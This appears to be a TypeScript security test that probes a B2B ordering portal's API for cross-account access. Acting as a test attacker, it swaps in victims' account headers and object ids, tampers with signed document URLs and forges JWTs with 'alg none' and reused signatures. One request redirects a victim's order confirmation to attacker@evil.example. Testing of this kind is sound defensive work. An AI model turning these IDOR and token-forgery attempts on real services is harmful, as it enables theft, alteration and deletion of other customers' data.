/**
 * Cross-account attempts: the attacker, signed in as themself, calls every account-scoped route
 * with a victim's account ids (X-Account-Id), order and memo numbers, document ids, signed URLs
 * (tampered), case and case-document ids, cart id and notification ids, and with forged tokens.
 *
 * An attempt succeeds when the answer is a 2xx that shows a victim's data (one of their markers),
 * or, for calls on a victim's object by id, any 2xx (the API must answer those 404); and when the
 * victim's state changed (a snapshot before and after).
 */
import { randomUUID } from 'node:crypto';
import { changedParts, snapshot, type Actor, type Victim } from './actors';
import type { Client, Reply, Send } from './http';
import { complaintBody } from './support';
import { multipartBody } from './uploads';

export interface Attempt {
  victim: string;
  label: string;
  path: string;
  init: Send;
  /** `id`: any 2xx succeeds; `marker`: a 2xx with a victim's marker. */
  rule: 'id' | 'marker';
}

export interface CrossAccountResult {
  attempts: number;
  successes: number;
  details: string[];
  /** 2xx answers to a victim's account header without the victim's data (served the attacker's own). */
  acceptedHeaders: number;
}

const header = (account: string) => ({ 'x-account-id': account });

function headerAttempts(victim: Victim, account: string): Attempt[] {
  const h = header(account);
  const sku = victim.cartSkus[0] ?? '10000860';
  const gets = [
    '/api/cart/fetch',
    `/api/cart/leadtime${victim.cartId ? `?encCartid=${encodeURIComponent(victim.cartId)}` : ''}`,
    '/api/cart/truckSizes',
    '/api/cart/orderoptions',
    '/api/cart/enableAddToCart',
    '/api/cart/availableProducts?limit=5',
    '/api/categories',
    '/api/cart/recentorderedproducts',
    '/api/cart/products/favourite',
    '/api/orders?limit=5',
    '/api/orders/ordersandmemos?limit=5',
    '/api/finance/list?limit=5',
    '/api/finance/memos?limit=5',
    '/api/finance/statement?from=2026-01-01&to=2026-03-31&format=xlsx',
    '/api/finance/filter',
    '/api/financeData',
    '/api/documents?limit=5',
    '/api/search/documents?q=price',
    '/api/users/account/customerCase',
    '/api/customerCase/configurations?lang=en',
    '/api/users/plants',
    '/api/cart/caseAvailableProducts?q=a',
    '/api/cart/caseOptions',
  ];
  const posts: [string, unknown][] = [
    ['/api/cart/addItems', { items: [{ sku, quantity: 1 }] }],
    ['/api/cart/update', { po: 'REVIEW-HIJACK', note: 'changed by another user' }],
    ['/api/cart/simulate', undefined],
    ['/api/cart/remove', { sku }],
    ['/api/cart/submit', undefined],
    ['/api/cart/products/favourite', { sku, favourite: true }],
    ['/api/users/account/customerCase', { caseStatus: 'Draft', caseType: 'Complaint' }],
    ['/api/users/account/selected', undefined],
  ];
  return [
    ...gets.map((path): Attempt => ({
      victim: victim.email,
      label: `GET ${path.split('?')[0]} as ${account}`,
      path,
      init: { headers: h },
      rule: 'marker',
    })),
    ...posts.map(([path, json]): Attempt => ({
      victim: victim.email,
      label: `POST ${path} as ${account}`,
      path,
      init: {
        method: 'POST',
        headers: {
          ...h,
          ...(path === '/api/cart/submit' ? { 'idempotency-key': `review-${randomUUID()}` } : {}),
        },
        ...(json !== undefined ? { json } : {}),
      },
      rule: 'marker',
    })),
  ];
}

function byId(victim: Victim, attackerDocs: { id: string; thumbnailUrl: string | null }[]) {
  const attempts: Attempt[] = [];
  const add = (label: string, path: string, init: Send = {}) =>
    attempts.push({ victim: victim.email, label, path, init, rule: 'id' });
  const q = encodeURIComponent;
  for (const order of victim.orders) {
    add('order detail', `/api/orders/orderNumber?orderNumber=${q(order)}`);
    add('invoice', `/api/invoice?orderNumber=${q(order)}`);
    add('packlist', `/api/packlist?orderNumber=${q(order)}`);
    add('coa', `/api/coa?orderNumber=${q(order)}`);
    add('document download', `/api/document/download?orderNumber=${q(order)}&type=invoice`);
    add('order download', `/api/${q(order)}/download?type=invoice`);
    add('replicate', '/api/cart/replicate', { json: { orderNumber: order } });
    add('send confirmation', '/api/utility/sendEmail', { json: { orderNumber: order } });
    add('send to another address', '/api/utility/sendConfirmationAltEmail', {
      json: { orderNumber: order, email: 'attacker@evil.example' },
    });
  }
  if (victim.modifiableOrder) {
    const orderNumber = victim.modifiableOrder;
    add('modification draft', '/api/updateModifiedOrder', {
      json: { orderNumber, apply: false, po: 'REVIEW-HIJACK' },
    });
    add('modification applied', '/api/updateModifiedOrder', {
      json: { orderNumber, apply: true, po: 'REVIEW-HIJACK' },
    });
    add('modification draft deleted', '/api/deleteModifiedOrderDraft', { json: { orderNumber } });
  }
  for (const memo of victim.memos) {
    add('memo detail', `/api/finance/details?memoNumber=${q(memo)}`);
    add('memo download', `/api/${q(memo)}/download?type=memo`);
    add('memo document', `/api/document/download?orderNumber=${q(memo)}&type=memo`);
  }
  const mine = attackerDocs.find((d) => d.thumbnailUrl);
  const mySig = mine?.thumbnailUrl ? new URL(mine.thumbnailUrl).searchParams : null;
  for (const doc of victim.documents) {
    add('document download', `/api/documents/download?id=${q(doc.id)}`);
    add('preview URL', `/api/documents/getPreviewURL/${q(doc.id)}`);
    add('attachment without signature', `/api/documents/${q(doc.id)}/attachment`);
    if (mySig)
      add(
        "attachment with the attacker's signature",
        `/api/documents/${q(doc.id)}/attachment?exp=${mySig.get('exp')}&sig=${mySig.get('sig')}`,
      );
    if (doc.thumbnailUrl) {
      const theirs = new URL(doc.thumbnailUrl).searchParams;
      const exp = Number(theirs.get('exp'));
      // A thumbnail's signature used for the attachment, and one with a later expiry.
      add(
        'thumbnail signature used for the attachment',
        `/api/documents/${q(doc.id)}/attachment?exp=${exp}&sig=${theirs.get('sig')}`,
      );
      add(
        'thumbnail with a later expiry',
        `/api/documents/${q(doc.id)}/thumbnail?exp=${exp + 600}&sig=${theirs.get('sig')}`,
      );
    }
  }
  for (const kase of victim.cases.slice(0, 3)) {
    const base = `/api/users/account/customerCase/${q(kase.id)}`;
    add('case documents', `${base}/documents`);
    add('case deleted', base, { method: 'DELETE' });
    for (const doc of kase.documents.slice(0, 2)) {
      add('case document download', `${base}/documents/${q(doc)}/download`);
      add('case document deleted', `${base}/documents/${q(doc)}`, { method: 'DELETE' });
    }
  }
  if (victim.cartId) {
    add('cart deleted', '/api/cart/delete', { json: { encCartid: victim.cartId } });
    add('cart lead time', `/api/cart/leadtime?encCartid=${q(victim.cartId)}`);
  }
  for (const notificationId of victim.notifications.slice(0, 2))
    add('notification read', '/api/notifications', {
      method: 'PATCH',
      json: { notificationId, isRead: 1, isDismissed: 1 },
    });
  if (victim.notifications.length)
    add('notifications read in bulk', '/api/notifications/bulk', {
      method: 'PATCH',
      json: {
        notifications: victim.notifications
          .slice(0, 3)
          .map((notificationId) => ({ notificationId, isRead: 1, isDismissed: 1 })),
      },
    });
  return attempts;
}

const b64 = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');

/** Tokens that claim to be the victim: unsigned, and the attacker's signature on a changed body. */
function forgedTokens(victimId: string, attackerToken: string): [string, string][] {
  const [head = '', body = '', signature = ''] = attackerToken.split('.');
  const claims = JSON.parse(Buffer.from(body, 'base64url').toString('utf8')) as Record<
    string,
    unknown
  >;
  const theirs = { ...claims, sub: victimId, id: victimId };
  const header = JSON.parse(Buffer.from(head, 'base64url').toString('utf8')) as Record<
    string,
    unknown
  >;
  return [
    ['alg none', `${b64({ ...header, alg: 'none' })}.${b64(theirs)}.`],
    ['re-used signature', `${head}.${b64(theirs)}.${signature}`],
  ];
}

export async function crossAccount(
  attacker: Actor & { token: string },
  victims: Victim[],
  options: { headerAccounts: number },
): Promise<CrossAccountResult> {
  const a = attacker.client;
  const attackerDocs =
    (await a.send('/api/documents?limit=100')).json<{
      documents: { id: string; thumbnailUrl: string | null }[];
    }>()?.documents ?? [];
  // The judge itself, first: a victim's own calls must show their markers and find their order.
  const first = victims[0];
  if (first) {
    const own = await first.client.send(`/api/orders?limit=5`, {
      headers: header(first.accounts[0] ?? ''),
    });
    const order = await first.client.send(
      `/api/orders/orderNumber?orderNumber=${first.orders[0] ?? ''}`,
    );
    if (!first.markers.some((m) => own.text.includes(m)) || order.status !== 200)
      throw new Error(
        `the cross-account judge does not work (own orders ${own.status}, own order ${order.status})`,
      );
  }
  const before = new Map<string, Record<string, string>>();
  for (const v of victims) before.set(v.email, await snapshot(v));

  const result: CrossAccountResult = { attempts: 0, successes: 0, details: [], acceptedHeaders: 0 };
  const judge = (attempt: Attempt, victim: Victim, reply: Reply) => {
    result.attempts += 1;
    if (reply.status < 200 || reply.status >= 300) return;
    const leaked = victim.markers.find((m) => reply.text.includes(m));
    if (attempt.rule === 'id' || leaked) {
      result.successes += 1;
      result.details.push(
        `${attempt.label} (${attempt.init.method ?? 'GET'} ${attempt.path}) for ${victim.email}: ${reply.status}${leaked ? `, shows ${leaked}` : ''}`,
      );
    } else result.acceptedHeaders += 1;
  };
  const run = async (victim: Victim, attempts: Attempt[], client: Client = a) => {
    // A few at a time: the order of the attempts on one victim does not matter.
    const queue = [...attempts];
    await Promise.all(
      Array.from({ length: 6 }, async () => {
        for (let next = queue.shift(); next; next = queue.shift())
          judge(next, victim, await client.send(next.path, next.init));
      }),
    );
  };

  for (const victim of victims) {
    const attempts = [
      ...victim.accounts
        .slice(0, options.headerAccounts)
        .flatMap((acc) => headerAttempts(victim, acc)),
      ...byId(victim, attackerDocs),
    ];
    await run(victim, attempts);

    // The victim's draft: upload to it, submit it with the attacker's form, delete it.
    if (victim.draftCaseId) {
      const draft = victim.draftCaseId;
      const path = `/api/users/account/customerCase/${encodeURIComponent(draft)}`;
      const form = multipartBody(
        {
          caseId: draft,
          docName: 'note.txt',
          docType: 'AnhComplaintsDoc',
          fileType: 'txt',
          langCode: 'en',
          type: 'CustomerCase',
        },
        { name: 'note.txt', type: 'text/plain', content: Buffer.from('hello') },
      );
      const draftAttempts: Attempt[] = [
        {
          victim: victim.email,
          label: "upload to the victim's draft",
          path: `${path}/documents`,
          init: { method: 'POST', headers: { 'content-type': form.contentType }, body: form.body },
          rule: 'id',
        },
        {
          victim: victim.email,
          label: "submit of the victim's draft",
          path: '/api/users/account/customerCase',
          init: { json: await complaintBody(a, draft) },
          rule: 'id',
        },
        {
          victim: victim.email,
          label: "victim's draft deleted",
          path,
          init: { method: 'DELETE' },
          rule: 'id',
        },
      ];
      await run(victim, draftAttempts);
    }

    // Forged tokens that claim the victim's identity.
    const victimId = (await victim.client.send('/api/users/simplifiedContext')).json<{
      oktaId: string;
    }>()?.oktaId;
    if (victimId)
      for (const [label, token] of forgedTokens(victimId, attacker.token))
        for (const path of ['/api/users/context', '/api/orders?limit=5'])
          judge(
            {
              victim: victim.email,
              label: `forged token (${label})`,
              path,
              init: {},
              rule: 'marker',
            },
            victim,
            await a.send(path, { headers: { authorization: `Bearer ${token}` } }),
          );
  }

  for (const victim of victims) {
    const changed = changedParts(before.get(victim.email) ?? {}, await snapshot(victim));
    for (const part of changed) {
      result.successes += 1;
      result.details.push(`the state of ${victim.email} changed: ${part}`);
    }
  }
  return result;
}
